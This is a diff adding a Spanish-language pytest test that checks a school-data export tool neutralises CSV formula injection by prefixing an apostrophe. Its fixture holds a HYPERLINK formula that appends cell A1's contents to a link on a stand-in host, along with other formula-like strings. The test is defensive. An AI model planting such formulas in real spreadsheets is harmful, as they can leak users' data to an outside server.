@@ -220,3 +220,35 @@ def test_xlsx_un_texto_con_igual_no_es_formula():
     libro = openpyxl.load_workbook(io.BytesIO(libro_xlsx(tablas, date(2026, 1, 1))))
     celda = libro["Acuerdos"]["E2"]
     assert (celda.value, celda.data_type) == ('=HYPERLINK("http://x","y")', "s")
+
+
+def test_csv_un_texto_que_empieza_como_formula_no_se_ejecuta(zona_limpia, tmp_path):
+    """Inyección en CSV: un texto de la Ruta que empieza con «=», «+», «-» o «@» va con un
+    apóstrofo delante (Excel y LibreOffice lo muestran como texto); SQLite lo guarda tal cual y
+    los números no cambian."""
+    import shutil
+    import sqlite3
+
+    zona = tmp_path / "zona"
+    shutil.copytree(zona_limpia, zona)
+    acciones = zona / "escuelas" / "21DPR0487A" / "2025-2026" / "acciones.yaml"
+    from ruamel.yaml import YAML
+
+    yaml = YAML()
+    datos = yaml.load(acciones.read_text(encoding="utf-8"))
+    formulas = ['=HYPERLINK("http://x.example/?"&A1;"clic")', "+52 cuotas", "-1+1", "@SUMA(A1:A9)"]
+    for accion, formula in zip(datos["acciones"], formulas):
+        accion["actividad"] = formula
+    with open(acciones, "w", encoding="utf-8") as f:
+        yaml.dump(datos, f)
+    salida, base = tmp_path / "csv", tmp_path / "zona.db"
+    assert exportar(str(zona), "-o", str(salida), "--formato", "csv", "--fecha", FECHA).exit_code == 0
+    assert exportar(str(zona), "-o", str(base), "--fecha", FECHA).exit_code == 0
+    filas = list(csv.DictReader(io.StringIO((salida / "acciones.csv").read_text(encoding="utf-8"))))
+    escritas = {f["id"]: f for f in filas if f["ruta"] == "escuelas/21DPR0487A/2025-2026"}
+    assert [escritas[f"A{i}"]["actividad"] for i in range(1, 5)] == ["'" + f for f in formulas]
+    assert escritas["A4"]["costo_centavos"] == "225000"
+    with sqlite3.connect(base) as conexion:
+        guardadas = dict(conexion.execute(
+            "SELECT id, actividad FROM acciones WHERE ruta = 'escuelas/21DPR0487A/2025-2026'"))
+    assert [guardadas[f"A{i}"] for i in range(1, 5)] == formulas
